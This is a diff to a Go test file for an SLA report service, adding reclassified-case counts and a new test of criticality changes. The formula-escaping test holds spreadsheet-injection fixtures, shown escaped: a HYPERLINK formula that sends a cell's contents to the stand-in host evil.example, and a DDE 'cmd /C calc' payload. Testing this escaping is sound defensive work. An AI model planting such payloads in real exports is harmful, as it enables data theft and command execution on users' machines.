@@ -72,11 +72,11 @@ var october = []struct {
 	// so due Tue 08:00. Unanswered at Mon 10:00: pending.
 	{kase{name: "a7", org: acme, plan: "premium", crit: sla.C4, channel: sla.Portal, received: "2026-10-31 23:59"}, pending, true, 0},
 	// Received Sun Nov 1 00:00 EDT: November, not counted.
-	{kase{name: "a8", org: acme, plan: "premium", crit: sla.C4, channel: sla.Portal, received: "2026-11-01 00:00", answered: "2026-11-02 09:00"}, 0, false, 0},
+	{kase{name: "a8", org: acme, plan: "premium", crit: sla.C4, channel: sla.Portal, received: "2026-11-01 00:00", answered: "2026-11-02 09:00"}, "", false, 0},
 	// Received Wed Sep 30 23:59 EDT (Oct 1 03:59 UTC): September, not counted.
-	{kase{name: "a9", org: acme, plan: "premium", crit: sla.C4, channel: sla.Portal, received: "2026-09-30 23:59", answered: "2026-10-01 09:00"}, 0, false, 0},
+	{kase{name: "a9", org: acme, plan: "premium", crit: sla.C4, channel: sla.Portal, received: "2026-09-30 23:59", answered: "2026-10-01 09:00"}, "", false, 0},
 	// An enhancement request has no response clock: not counted.
-	{kase{name: "a10", org: acme, plan: "premium", crit: sla.C4, channel: sla.Portal, received: "2026-10-12 10:00", enhancement: true}, 0, false, 0},
+	{kase{name: "a10", org: acme, plan: "premium", crit: sla.C4, channel: sla.Portal, received: "2026-10-12 10:00", enhancement: true}, "", false, 0},
 	// C2 by phone Tue 10:00 (24x7, 1h, due 11:00), held for the customer
 	// at 11:30 and still held: a paused clock has no due instant, but it
 	// had used 1h30m >= 1h before the hold. Breached.
@@ -132,7 +132,7 @@ func TestJudgeOctober(t *testing.T) {
 		if err != nil {
 			t.Fatalf("%s: %v", k.name, err)
 		}
-		want := judged{outcome: k.want, responded: k.answered != "", ttfr: k.ttfr}
+		want := judged{outcome: k.want, responded: k.answered != "", ttfr: k.ttfr, crit: k.crit}
 		if got != want {
 			t.Errorf("%s: judged %+v, want %+v", k.name, got, want)
 		}
@@ -187,6 +187,7 @@ func TestSLAReportOctober(t *testing.T) {
 		// ceil(5.5) = 6th (1h30m), p90 the ceil(9.9) = 10th (3h).
 		Total: SLARow{Month: "2026-10", Cases: 15, Met: 6, Breached: 5, NotGuaranteed: 2, Pending: 2, Responded: 11,
 			Median: span(90 * time.Minute), P90: span(3 * time.Hour)},
+		Reclassified: []ReclassifiedCase{},
 	}
 	if d := cmp.Diff(want, got); d != "" {
 		t.Fatalf("report (-want +got):\n%s", d)
@@ -313,10 +314,10 @@ func TestSLACSVEscapesFormulas(t *testing.T) {
 		t.Fatal(err)
 	}
 	want := strings.Join([]string{
-		"month,customer_id,customer,plan,criticality,cases,met,breached,not_guaranteed,pending,responded,median_first_response_seconds,median_first_response,p90_first_response_seconds,p90_first_response",
-		`2026-10,org_evil,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",premium,C3,1,1,0,0,0,1,1800,30m,1800,30m`,
-		`2026-10,org_acme,'@SUM(1+1)*cmd|' /C calc'!A0,premium,C4,1,0,1,0,0,0,,,,`,
-		"2026-10,,Total,,,2,1,1,0,0,1,1800,30m,1800,30m",
+		"month,customer_id,customer,plan,criticality,cases,met,breached,not_guaranteed,pending,reclassified,responded,median_first_response_seconds,median_first_response,p90_first_response_seconds,p90_first_response",
+		`2026-10,org_evil,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",premium,C3,1,1,0,0,0,0,1,1800,30m,1800,30m`,
+		`2026-10,org_acme,'@SUM(1+1)*cmd|' /C calc'!A0,premium,C4,1,0,1,0,0,0,0,,,,`,
+		"2026-10,,Total,,,2,1,1,0,0,0,1,1800,30m,1800,30m",
 	}, "\n") + "\n"
 	if d := cmp.Diff(want, b.String()); d != "" {
 		t.Fatalf("CSV (-want +got):\n%s", d)
@@ -325,5 +326,89 @@ func TestSLACSVEscapesFormulas(t *testing.T) {
 	// terminal.
 	if got := r.Table()[1][2]; got != dir.orgs[evil].Name {
 		t.Fatalf("table cell %q", got)
+	}
+}
+
+// Reclassified cases: a breach recorded under a criticality stands after
+// the case is lowered, and counts in the row of the criticality in force
+// at the breach; a case answered in time counts under the criticality in
+// force at its first response. Every reclassified case is listed with its
+// criticality history.
+func TestSLAReportReclassified(t *testing.T) {
+	day := func(s string) time.Time { return local("2026-10-06 " + s) } // a Tuesday
+	change := func(from, to sla.Criticality, at string) cases.CriticalityChange {
+		return cases.CriticalityChange{From: from, To: to, At: day(at)}
+	}
+	premium := func(id string, n int64, crit sla.Criticality, received, starts, due string, kind string, target time.Duration) cases.Case {
+		return cases.Case{ID: accord.ID(id), Number: n, OrgID: acme, Type: cases.Incident, Criticality: crit, State: cases.Open,
+			Clock: cases.Clock{PolicyVersion: 1, Plan: "premium", Channel: sla.Phone, ReceivedAt: day(received), Kind: kind,
+				StartsAt: day(starts), Target: sla.Duration(target), Guaranteed: true, DueAt: ptr(day(due))}}
+	}
+	// The issue's scenario: C3 by phone at 10:00 (due 18:00), raised to C1
+	// at 11:00 (due 11:30), breached at 11:40, lowered to C3 at 12:00,
+	// answered at 13:00, before the C3 due time. Breached, under C1; 3h.
+	issue := premium("cas_issue", 1, sla.C3, "10:00", "10:00", "18:00", "support-hours", 8*time.Hour)
+	issue.Clock.RespondedAt = ptr(day("13:00"))
+	issue.Clock.BreachedAt, issue.Clock.BreachCriticality, issue.Clock.BreachDueAt = ptr(day("11:40")), sla.C1, ptr(day("11:30"))
+	issue.Reclassifications = []cases.CriticalityChange{change(sla.C3, sla.C1, "11:00"), change(sla.C1, sla.C3, "12:00")}
+	// C3 by phone at 10:00, raised to C1 at 14:00 (due 14:30), answered
+	// 14:10. Met under C1, 10m from the raise.
+	raised := premium("cas_raised", 2, sla.C1, "10:00", "14:00", "14:30", sla.Clock24x7, 30*time.Minute)
+	raised.Clock.RespondedAt = ptr(day("14:10"))
+	raised.Reclassifications = []cases.CriticalityChange{change(sla.C3, sla.C1, "14:00")}
+	// C2 by phone at 10:00 (due 11:00), answered 10:20, lowered to C4 at
+	// 12:00: the first response was judged under C2. Met, 20m.
+	after := premium("cas_after", 3, sla.C4, "10:00", "10:00", "11:00", sla.Clock24x7, time.Hour)
+	after.Clock.RespondedAt = ptr(day("10:20"))
+	after.Reclassifications = []cases.CriticalityChange{change(sla.C2, sla.C4, "12:00")}
+	// Never reclassified: C3 by phone at 10:00, answered 11:00. Met, 1h.
+	plain := premium("cas_plain", 4, sla.C3, "10:00", "10:00", "18:00", "support-hours", 8*time.Hour)
+	plain.Clock.RespondedAt = ptr(day("11:00"))
+
+	svc := NewService(&fakeStore{cases: []cases.Case{issue, raised, after, plain}}, testPolicies(t), testOrgs, DefaultConfig())
+	r, err := svc.SLA(actor(accord.RoleAdmin, "org_vendor"), reportAt, Query{Month: "2026-10"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	row := func(crit sla.Criticality, n, met, breached, reclassified int, median, p90 time.Duration) SLARow {
+		return SLARow{Month: "2026-10", OrgID: acme, Customer: "Acme Bank", Plan: "premium", Criticality: crit, Cases: n, Met: met,
+			Breached: breached, Reclassified: reclassified, Responded: n, Median: span(median), P90: span(p90)}
+	}
+	want := []SLARow{
+		// issue breached (3h), raised met (10m): median the 1st, p90 the 2nd.
+		row(sla.C1, 2, 1, 1, 2, 10*time.Minute, 3*time.Hour),
+		row(sla.C2, 1, 1, 0, 1, 20*time.Minute, 20*time.Minute),
+		row(sla.C3, 1, 1, 0, 0, time.Hour, time.Hour),
+	}
+	if d := cmp.Diff(want, r.Rows); d != "" {
+		t.Fatalf("rows (-want +got):\n%s", d)
+	}
+	if r.Total.Cases != 4 || r.Total.Breached != 1 || r.Total.Met != 3 || r.Total.Reclassified != 3 {
+		t.Fatalf("total %+v, want 4 cases, 1 breached, 3 met, 3 reclassified", r.Total)
+	}
+	wantCases := []ReclassifiedCase{
+		{CaseID: "cas_issue", Number: 1, OrgID: acme, Customer: "Acme Bank", Plan: "premium", Criticality: sla.C1, Outcome: "breached",
+			Opened: sla.C3, Reclassifications: issue.Reclassifications, BreachDueAt: ptr(day("11:30"))},
+		{CaseID: "cas_raised", Number: 2, OrgID: acme, Customer: "Acme Bank", Plan: "premium", Criticality: sla.C1, Outcome: "met",
+			Opened: sla.C3, Reclassifications: raised.Reclassifications},
+		{CaseID: "cas_after", Number: 3, OrgID: acme, Customer: "Acme Bank", Plan: "premium", Criticality: sla.C2, Outcome: "met",
+			Opened: sla.C2, Reclassifications: after.Reclassifications},
+	}
+	if d := cmp.Diff(wantCases, r.Reclassified); d != "" {
+		t.Fatalf("reclassified cases (-want +got):\n%s", d)
+	}
+	var b bytes.Buffer
+	if err := WriteCSV(&b, r); err != nil {
+		t.Fatal(err)
+	}
+	wantCSV := strings.Join([]string{
+		"month,customer_id,customer,plan,criticality,cases,met,breached,not_guaranteed,pending,reclassified,responded,median_first_response_seconds,median_first_response,p90_first_response_seconds,p90_first_response",
+		"2026-10,org_acme,Acme Bank,premium,C1,2,1,1,0,0,2,2,600,10m,10800,3h",
+		"2026-10,org_acme,Acme Bank,premium,C2,1,1,0,0,0,1,1,1200,20m,1200,20m",
+		"2026-10,org_acme,Acme Bank,premium,C3,1,1,0,0,0,0,1,3600,1h,3600,1h",
+		"2026-10,,Total,,,4,3,1,0,0,3,4,1200,20m,10800,3h",
+	}, "\n") + "\n"
+	if d := cmp.Diff(wantCSV, b.String()); d != "" {
+		t.Fatalf("CSV (-want +got):\n%s", d)
 	}
 }
